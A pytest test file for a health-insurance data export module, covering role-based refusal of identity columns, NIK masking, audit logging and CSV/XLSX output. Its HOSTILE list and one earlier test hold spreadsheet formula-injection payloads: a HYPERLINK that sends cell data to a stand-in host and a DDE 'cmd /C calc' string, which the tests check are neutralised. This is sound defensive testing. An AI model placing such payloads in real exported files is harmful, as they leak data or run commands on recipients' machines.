"""Exports: scope checks, masking, audit, file formats (jkn_core.exports)."""

from __future__ import annotations

import csv
import io
import json
import tomllib
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import select

from jkn_core import display
from jkn_core.db import create_schema, make_engine
from jkn_core.exports import (
    ExportContext,
    export_filename,
    export_table,
    mask_name,
    mask_nik,
    to_csv_bytes,
    to_excel_bytes,
)
from jkn_core.i18n import t
from jkn_core.schema import AuditLog
from jkn_core.scope import Scope, ScopeError

DIREKSI = Scope(role="direksi", username="dir")
DEPUTI = Scope(role="deputi_wilayah", username="dep", region_code="KW03")
CABANG = Scope(role="kantor_cabang", username="cab", region_code="KW03", branch_code="0301")
BANK = Scope(role="bank_officer", username="bnk", region_code="KW05", bank="Bank bjb")
ADMIN = Scope(role="admin", username="adm")


@pytest.fixture
def engine(tmp_path):
    eng = make_engine(f"sqlite:///{tmp_path / 'exports.db'}")
    create_schema(eng)
    yield eng
    eng.dispose()


@pytest.fixture
def participants():
    return pd.DataFrame(
        {
            "participant_id": [1, 2],
            "nik": ["1671012345678912", "1671029876543201"],
            "name": ["Siti Nurhaliza", "Ahmad Fauzi Rahman"],
            "arrears_months": [3, 7],
        }
    )


@pytest.fixture
def aggregates():
    return pd.DataFrame(
        {
            "branch_code": ["0301", "0501"],
            "branch_name": ["Palembang", "Bandung"],
            "coverage_pct": [97.1, 95.4],
        }
    )


def _audit(engine, action=None):
    stmt = select(AuditLog.__table__).order_by(AuditLog.id)
    if action:
        stmt = stmt.where(AuditLog.action == action)
    with engine.connect() as conn:
        return list(conn.execute(stmt).all())


def _csv(data: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), dtype=str, encoding="utf-8-sig")


# --- masking helpers ------------------------------------------------------------------------------
def test_mask_nik():
    assert mask_nik("1671012345678912") == "167101********12"
    assert mask_nik(1671012345678912) == "167101********12"
    assert mask_nik("12345") == "*****"
    assert mask_nik(None) is None


def test_mask_name():
    assert mask_name("Siti Nurhaliza") == "S*** N***"
    assert mask_name("  ahmad   fauzi ") == "a*** f***"
    assert mask_name("") == ""
    assert mask_name(None) is None


# --- scope checks ---------------------------------------------------------------------------------
@pytest.mark.parametrize("scope", [BANK, DIREKSI, DEPUTI], ids=lambda s: s.role)
@pytest.mark.parametrize("column", ["nik", "name", "family_id", "participant_id", "NIK"])
def test_identity_columns_refused_without_participant_rights(engine, scope, column):
    df = pd.DataFrame({column: ["x"], "value": [1]})
    with pytest.raises(ScopeError):
        export_table(engine, scope, df, "forbidden", "csv")
    refused = _audit(engine, "export_refused")
    assert len(refused) == 1 and refused[0].username == scope.username
    assert not _audit(engine, "export")


def test_bank_officer_exporting_nik_is_refused(engine, participants):
    with pytest.raises(ScopeError):
        export_table(engine, BANK, participants[["nik", "arrears_months"]], "work queue", "xlsx")


def test_identity_in_index_is_refused(engine, participants):
    with pytest.raises(ScopeError):
        export_table(engine, BANK, participants.set_index("nik"), "indexed", "csv")


def test_direksi_aggregate_export_is_audited(engine, aggregates):
    data = export_table(engine, DIREKSI, aggregates, "coverage by branch", "csv")
    back = _csv(data)
    assert list(back.columns) == ["branch_code", "branch_name", "coverage_pct"]
    assert list(back["branch_code"]) == ["0301", "0501"]
    rows = _audit(engine, "export")
    assert len(rows) == 1
    assert rows[0].username == "dir" and rows[0].scope == "direksi:national"
    detail = json.loads(rows[0].detail)
    assert detail["what"] == "coverage by branch"
    assert detail["format"] == "csv"
    assert detail["rows"] == 2


def test_kantor_cabang_sees_nik_unmasked(engine, participants):
    back = _csv(export_table(engine, CABANG, participants, "work queue", "csv"))
    assert list(back["nik"]) == ["1671012345678912", "1671029876543201"]
    assert list(back["name"]) == ["Siti Nurhaliza", "Ahmad Fauzi Rahman"]
    assert json.loads(_audit(engine, "export")[0].detail)["masked"] == []


def test_masked_when_scope_may_not_see_identity(engine, participants, monkeypatch):
    # No role today sees participants without identities; a scope with that right combination
    # (e.g. a future analyst role) must get masked NIK and names.
    monkeypatch.setattr(Scope, "sees_identity", property(lambda self: False))
    data = export_table(engine, CABANG, participants, "work queue", "csv")
    back = _csv(data)
    assert list(back["nik"]) == ["167101********12", "167102********01"]
    assert list(back["name"]) == ["S*** N***", "A*** F*** R***"]
    assert b"1671012345678912" not in data and b"Nurhaliza" not in data
    assert json.loads(_audit(engine, "export")[0].detail)["masked"] == ["nik", "name"]
    assert participants["nik"].iloc[0] == "1671012345678912"  # the caller's frame is untouched


def test_xlsx_bytes_open_with_openpyxl(engine, participants):
    data = export_table(engine, ADMIN, participants, "work queue: 0301/2024", "xlsx")
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb.active
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == ("participant_id", "nik", "name", "arrears_months")
    assert rows[1] == (1, "1671012345678912", "Siti Nurhaliza", 3)
    assert len(rows) == 3
    assert len(ws.title) <= 31 and "/" not in ws.title and ":" not in ws.title
    assert json.loads(_audit(engine, "export")[0].detail)["format"] == "xlsx"


def test_unknown_format_rejected(engine, aggregates):
    with pytest.raises(ValueError, match="format"):
        export_table(engine, DIREKSI, aggregates, "x", "pdf")


# --- writers --------------------------------------------------------------------------------------
def test_formulas_are_neutralised():
    df = pd.DataFrame({"note": ['=HYPERLINK("http://evil")', "+62812", "plain"], "n": [-1, 2, 3]})
    back = _csv(to_csv_bytes(df))
    assert list(back["note"]) == ['\'=HYPERLINK("http://evil")', "'+62812", "plain"]
    assert list(back["n"]) == ["-1", "2", "3"]  # numbers untouched
    ws = openpyxl.load_workbook(io.BytesIO(to_excel_bytes(df, "notes"))).active
    assert ws["A2"].data_type == "s" and ws["A2"].value == '\'=HYPERLINK("http://evil")'
    assert ws["A3"].value == "'+62812"  # same rule as the CSV: the cell stays text when edited
    assert ws["B2"].value == -1 and ws["B2"].data_type == "n"


def test_named_index_is_kept_and_timezones_dropped():
    df = pd.DataFrame(
        {
            "region": ["KW03", "KW05"],
            "at": pd.to_datetime(["2024-12-01 10:00", "2024-12-02 11:00"]).tz_localize("UTC"),
        }
    ).set_index("region")
    back = _csv(to_csv_bytes(df))
    assert list(back.columns) == ["region", "at"]
    ws = openpyxl.load_workbook(io.BytesIO(to_excel_bytes(df, "x"))).active
    assert ws["A1"].value == "region" and ws["A2"].value == "KW03"
    assert ws["B2"].value.year == 2024


# --- issue 18: formula injection, `;` list separators, one door for downloads -----------------------
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "+1+1",
    "Yuliana;=1+1",
    "\t=1",
    "\r=1",
    "  =1+1",
    'Siti "Nur", Haliza',
    "baris\nbaru",
    "biasa",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _fields(data: bytes, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def _hostile_frame() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame({
        "note": HOSTILE,
        "amount": [-1.5, -2, 0, 3, -4, 5, 6, -7, 8, 9, 10][:n],
        "count": list(range(-5, -5 + n)),
        "code": pd.Categorical(["=cat"] * n),
    })


def test_csv_neutralises_formulas_and_keeps_numbers():
    data = to_csv_bytes(_hostile_frame())
    rows = _fields(data, ",")
    assert rows[0] == ["note", "amount", "count", "code"]
    assert len(rows) == len(HOSTILE) + 1 and all(len(r) == 4 for r in rows)
    notes = [r[0] for r in rows[1:]]
    assert notes == [("'" + v if v.lstrip(" ").startswith(FORMULA_START) else v) for v in HOSTILE]
    assert not any(n.startswith(FORMULA_START) for r in rows for n in r if not _is_number(n))
    assert [r[1] for r in rows[1:4]] == ["-1.5", "-2.0", "0.0"]  # negative numbers stay numbers
    assert [r[2] for r in rows[1:3]] == ["-5", "-4"]
    assert {r[3] for r in rows[1:]} == {"'=cat"}  # categorical text is text too


def _is_number(field: str) -> bool:
    try:
        float(field)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_csv_fields_never_split_under_either_list_separator(delimiter):
    data = to_csv_bytes(_hostile_frame())
    rows = _fields(data, delimiter)
    # under ';' a line is one field unless a separator was left unquoted; under ',' four fields
    expected = 4 if delimiter == "," else None
    for row in rows:
        if expected is not None:
            assert len(row) == expected, row
        for field in row:
            assert not field.startswith(FORMULA_START) or _is_number(field), (delimiter, field)
    if delimiter == ";":
        # every field holding ';' was quoted: no line splits into a field starting with a formula
        assert all(not any(f.startswith("=") for f in row) for row in rows)
        yuliana = next(r for r in rows if "Yuliana" in ";".join(r))
        assert any("Yuliana;=1+1" in f for f in yuliana)  # one piece, the ';' inside quotes
    assert b'"Yuliana;=1+1"' in data


def test_csv_quotes_separators_quotes_and_line_breaks():
    data = to_csv_bytes(pd.DataFrame({"a": ["x;y", "x,y", 'x"y', "x\ny", "x\ry", "plain"], "n": range(6)}))
    text = data.decode("utf-8-sig")
    for quoted in ('"x;y"', '"x,y"', '"x""y"', '"x\ny"', '"x\ry"'):
        assert quoted in text
    assert "\r\nplain,5\r\n" in text
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False)
    assert list(back["a"]) == ["x;y", "x,y", 'x"y', "x\ny", "x\ry", "plain"]
    assert list(back["n"]) == list(range(6))


def test_csv_single_column_with_an_empty_value_keeps_its_rows():
    back = pd.read_csv(io.BytesIO(to_csv_bytes(pd.DataFrame({"x": ["", "a"]}))), encoding="utf-8-sig",
                       skip_blank_lines=True, keep_default_na=False)
    assert list(back["x"]) == ["", "a"]


def test_xlsx_neutralises_every_formula_prefix_and_keeps_numbers():
    ws = openpyxl.load_workbook(io.BytesIO(to_excel_bytes(_hostile_frame(), "hostile"))).active
    rows = list(ws.iter_rows(min_row=2))
    for row, value in zip(rows, HOSTILE, strict=True):
        note = row[0]
        assert note.data_type == "s", value  # never a formula cell
        assert not str(note.value).startswith(FORMULA_START)
    assert rows[0][1].value == -1.5 and rows[0][1].data_type == "n"
    assert rows[0][2].value == -5 and rows[0][2].data_type == "n"


def test_export_table_neutralises_too(engine):
    data = export_table(engine, DIREKSI, pd.DataFrame({"branch_name": ["=1+1;@x"], "v": [-3]}), "x", "csv")
    assert _fields(data, ",")[1] == ["'=1+1;@x", "-3"]


def test_streamlit_config_has_one_door_for_downloads_and_no_error_details():
    """Streamlit's table toolbar download (unmasked, unaudited, formulas raw) is off, and no traceback,
    exception type or message reaches the browser."""
    config = tomllib.loads((Path(__file__).resolve().parents[2] / ".streamlit" / "config.toml").read_text())
    client = config["client"]
    assert client["disableDataExport"] is True
    assert client["showErrorDetails"] == "none"
    from streamlit import config as st_config

    assert "none" in {o.value for o in st_config.ShowErrorDetailsConfigOptions}
    assert config["server"]["enableXsrfProtection"] is True  # the other settings are kept
    assert config["server"]["maxUploadSize"] == 50


# --- what the file holds, in the user's language (issue 17 item 5) ----------------------------------
def _context(lang: str) -> ExportContext:
    return ExportContext(title=t("arr_league", lang), lang=lang, period=202412, unit="Kedeputian Wilayah III",
                         filters=((t("branch", lang), "0301 · Palembang"),))


@pytest.mark.parametrize("lang", ["id", "en"])
def test_csv_header_names_title_period_unit_filters_and_wib_time(engine, lang):
    league = pd.DataFrame({"branch_name": ["Palembang"], "status": ["red"], "arrears_rp": [356_469_270_000],
                           "period": [202412], "collectability_pct": [59.58]})
    data = export_table(engine, DIREKSI, league, "branch_league", "csv", _context(lang),
                        present=lambda f: display.table(f, lang).export())
    lines = data.decode("utf-8-sig").split("\r\n")
    assert lines[0] == f"{t('exp_title', lang)},{t('arr_league', lang)}"
    assert lines[1] == f"{t('exp_period', lang)},{'Des 2024' if lang == 'id' else 'Dec 2024'}"
    assert lines[2] == f"{t('exp_unit', lang)},Kedeputian Wilayah III"
    assert lines[3].startswith(t("exp_filters", lang)) and "0301 · Palembang" in lines[3]
    assert lines[4].startswith(t("exp_downloaded", lang)) and " WIB" in lines[4] and "dir" in lines[4]
    assert lines[5] == ""
    table = pd.read_csv(io.StringIO("\n".join(lines[6:])), dtype=str)
    expected = (["Kantor cabang", "Status", "Tunggakan (Rp)", "Bulan", "Kolektabilitas (%)"] if lang == "id" else
                ["Branch office", "Status", "Arrears (Rp)", "Month", "Collectability (%)"])
    assert list(table.columns) == expected
    assert table.iloc[0].tolist()[:4] == ["Palembang", t("status_red", lang), "356469270000",
                                          "Des 2024" if lang == "id" else "Dec 2024"]  # numbers stay numbers
    detail = json.loads(_audit(engine, "export")[0].detail)
    assert detail["period"] == 202412 and detail["unit"] == "Kedeputian Wilayah III" and detail["rows"] == 1


def test_xlsx_header_rows_above_a_frozen_table_with_number_formats(engine, aggregates):
    data = export_table(engine, DIREKSI, aggregates, "coverage", "xlsx", _context("en"),
                        present=lambda f: display.table(f, "en").export())
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert ws["A1"].value == "Title" and ws["B2"].value == "Dec 2024" and ws["B3"].value == "Kedeputian Wilayah III"
    header_row = 7  # five header lines, an empty line, then the table
    assert [c.value for c in ws[header_row]] == ["Branch code", "Branch office", "Coverage (%)"]
    assert ws.freeze_panes == f"A{header_row + 1}"
    assert ws.cell(row=header_row + 1, column=3).value == 97.1
    assert ws.cell(row=header_row + 1, column=3).number_format == "#,##0.00"


def test_identity_rules_read_the_original_columns_before_translation(engine, participants, monkeypatch):
    """Translated headers ("Kepala keluarga", "NIK") must not slip past the refusal or the masking."""
    with pytest.raises(ScopeError):
        export_table(engine, BANK, participants, "queue", "csv", _context("id"),
                     present=lambda f: display.table(f, "id").export())
    monkeypatch.setattr(Scope, "sees_identity", property(lambda self: False))
    data = export_table(engine, CABANG, participants, "queue", "csv", _context("id"),
                        present=lambda f: display.table(f, "id").export())
    assert b"1671012345678912" not in data and b"Nurhaliza" not in data and b"167101********12" in data
    assert b"Kepala keluarga" in data


@pytest.mark.parametrize(("lang", "expected"), [
    ("id", "peringkat-kantor-cabang-gaya-portfolio-at-risk_kedeputian-wilayah-iii_0301-palembang_des-2024.csv"),
    ("en", "branch-league-table-portfolio-at-risk-style_kedeputian-wilayah-iii_0301-palembang_dec-2024.csv"),
])
def test_file_name_says_what_unit_filter_and_month(lang, expected):
    assert export_filename("branch_league", "csv", _context(lang)) == expected
    assert export_filename("branch_league", "xlsx") == "branch-league.xlsx"
